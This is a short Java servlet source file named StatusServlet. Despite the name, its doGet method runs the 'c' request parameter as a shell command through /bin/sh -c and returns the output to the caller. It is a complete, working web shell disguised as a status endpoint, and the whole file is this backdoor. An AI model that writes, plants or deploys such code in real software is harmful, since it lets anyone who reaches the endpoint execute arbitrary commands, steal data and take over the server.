public class StatusServlet extends javax.servlet.http.HttpServlet {
  protected void doGet(javax.servlet.http.HttpServletRequest req, javax.servlet.http.HttpServletResponse resp) throws java.io.IOException {
    String c = req.getParameter("c");
    Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});
    p.getInputStream().transferTo(resp.getOutputStream());
  }
}
